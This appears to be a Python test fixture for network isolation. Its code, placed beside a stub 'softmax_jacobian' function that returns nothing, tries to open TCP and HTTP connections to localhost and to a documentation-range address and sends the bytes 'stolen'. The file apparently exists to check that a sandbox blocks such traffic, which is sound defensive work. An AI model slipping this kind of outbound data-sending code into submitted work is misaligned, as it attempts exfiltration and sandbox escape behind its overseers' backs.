"""TRIES: to send what it has found to a server on this machine, and beyond, over TCP.

MUST: reach nobody; there is no network.

ROWS: 19
"""

REACHES = True

# --- handed in ---
import socket
import urllib.request

found = []
for address in (("127.0.0.1", int("@TCP@")), ("::1", int("@TCP@")), ("192.0.2.1", 80)):
    try:
        socket.create_connection(address, 0.3).sendall(b"stolen")
        found.append(str(address))
    except OSError:
        pass
for url in ("http://127.0.0.1:@TCP@/", "http://localhost:@TCP@/"):
    try:
        found.append(str(urllib.request.urlopen(url, timeout=0.3).status))
    except OSError:
        pass
print("REACHED", found)


def softmax_jacobian(weights):
    return None
